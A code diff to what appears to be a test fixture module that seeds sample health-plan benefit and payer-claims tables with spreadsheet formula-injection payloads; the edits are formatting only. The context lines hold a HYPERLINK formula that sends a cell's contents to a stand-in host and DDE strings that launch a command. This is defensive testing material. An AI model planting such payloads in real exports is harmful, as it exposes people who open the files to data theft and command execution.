@@ -20,7 +20,7 @@ FORMULA: Final = '=HYPERLINK("http://x.invalid/?leak="&A1,"click")'
 #: One text per character a spreadsheet treats as the start of a formula (OWASP list).
 FORMULAS: Final[dict[str, str]] = {
     "equals": FORMULA,
-    "plus": "+HYPERLINK(\"http://x.invalid\")",
+    "plus": '+HYPERLINK("http://x.invalid")',
     "minus": "-2+3+cmd|' /C calc'!A0",
     "at": "@SUM(1+1)*cmd|' /C calc'!A0",
     "tab": "\t=1+1",
@@ -50,7 +50,9 @@ def injected_benefits(plan_id: str = "SAMPLE-B", *, line_breaks: bool = True) ->
     table = table[table["plan_id"] == "SAMPLE-B"].copy()
     table["plan_id"] = plan_id
     payloads = [v for v in FORMULAS.values() if line_breaks or v[0] not in "\t\r"]
-    labels = {b: payloads[n % len(payloads)] + f" {n}" for n, b in enumerate(table["benefit"].unique())}
+    labels = {
+        b: payloads[n % len(payloads)] + f" {n}" for n, b in enumerate(table["benefit"].unique())
+    }
     table["benefit"] = table["benefit"].map(labels)
     return table.reset_index(drop=True)
 
@@ -147,8 +149,8 @@ def write_payer_claims(path: Path, claims: int = 400) -> Path:
     table = read_835(folder).claims.copy()
     names = [CONTROL, *FORMULAS.values()]
     payers = sorted(table["plan_id"].astype(str).unique())
-    table["plan_id"] = table["plan_id"].astype(str).map(
-        {p: names[n % len(names)] for n, p in enumerate(payers)}
+    table["plan_id"] = (
+        table["plan_id"].astype(str).map({p: names[n % len(names)] for n, p in enumerate(payers)})
     )
     table.to_parquet(path, index=False)
     return path
